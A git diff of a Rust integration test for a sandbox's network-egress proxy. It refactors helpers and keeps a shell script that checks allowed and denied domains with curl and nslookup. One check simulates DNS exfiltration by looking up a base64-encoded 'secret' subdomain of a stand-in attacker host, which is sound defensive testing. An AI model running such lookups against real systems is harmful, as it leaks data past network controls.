@@ -11,9 +11,9 @@ use std::pin::Pin;
 use std::sync::{Arc, Mutex};
 use std::time::Duration;
 
+use cordon::network::EgressSpec;
 use cordon::network::proxy::dial::{Resolve, StaticResolver};
 use cordon::network::proxy::record::MemoryLog;
-use cordon::network::{EgressSpec, NetworkPolicy, policy::DomainRule};
 use cordon::sandbox::docker::{DockerBackend, DockerConfig, elf_deps};
 use cordon::sandbox::{Backend, Sandbox, SandboxSpec};
 use cordon_tests::net::{self, SERVER};
@@ -99,23 +99,9 @@ impl Resolve for Recording {
     }
 }
 
-fn policy(allowed: &[&str], denied: &[&str]) -> NetworkPolicy {
-    let rules = |l: &[&str]| {
-        l.iter()
-            .map(|d| DomainRule::parse(d, *d).unwrap())
-            .collect()
-    };
-    NetworkPolicy {
-        allowed: rules(allowed),
-        denied: rules(denied),
-        allow_local_binding: false,
-    }
-}
-
-/// One `CHECK name rc=N out=...` line per check (busybox sh, the image's curl).
+/// One `CHECK name rc=N out=...` line per check (busybox sh, the image's curl), run after
+/// [`net::CHECK_PRELUDE`].
 const CHECKS: &str = r#"
-check() { name=$1; shift; out=$("$@" 2>&1); rc=$?; echo "CHECK $name rc=$rc out=$(echo "$out" | tr '\n' ' ')"; }
-code() { curl -sS -o /dev/null -w '%{http_code}' "$@"; }
 check http curl -sS http://allowed.test/x
 check connect curl -sS -p http://allowed.test/y
 check denied code http://other.test/
@@ -129,29 +115,17 @@ check dns_exfil nslookup c2VjcmV0.evil.test
 check bridge curl -sS --max-time 20 -x http://127.0.0.1:3128 http://allowed.test/z
 "#;
 
-fn parse(stdout: &str) -> HashMap<String, (i32, String)> {
-    stdout
-        .lines()
-        .filter_map(|l| l.strip_prefix("CHECK "))
-        .filter_map(|l| {
-            let (name, rest) = l.split_once(" rc=")?;
-            let (rc, out) = rest.split_once(" out=")?;
-            Some((name.to_string(), (rc.parse().ok()?, out.trim().to_string())))
-        })
-        .collect()
-}
-
 async fn checks(sandbox: &Sandbox) -> HashMap<String, (i32, String)> {
     let req = ExecRequest {
         exec_id: "net-checks".into(),
-        command: CHECKS.to_string(),
+        command: format!("{}{CHECKS}", net::CHECK_PRELUDE),
         timeout_ms: 120_000,
         ..ExecRequest::default()
     };
     let (out, status) = sandbox.client.clone().exec_collect(req).await.unwrap();
     let out = String::from_utf8_lossy(&out).into_owned();
     assert_eq!(status.code, Some(0), "{out}");
-    parse(&out)
+    net::parse_checks(&out)
 }
 
 #[test]
@@ -187,7 +161,10 @@ fn docker_sessions_with_and_without_a_way_out_share_the_warm_pool() {
 
         let ws = Workspace::new();
         let log = Arc::new(MemoryLog::default());
-        let mut egress = EgressSpec::new(policy(&["allowed.test", "other.test"], &["other.test"]));
+        let mut egress = EgressSpec::new(net::policy(
+            &["allowed.test", "other.test"],
+            &["other.test"],
+        ));
         egress.log = log.clone();
         egress.resolver = resolver.clone();
         let spec = SandboxSpec::new("net-docker-egress", ws.path()).with_egress(egress);
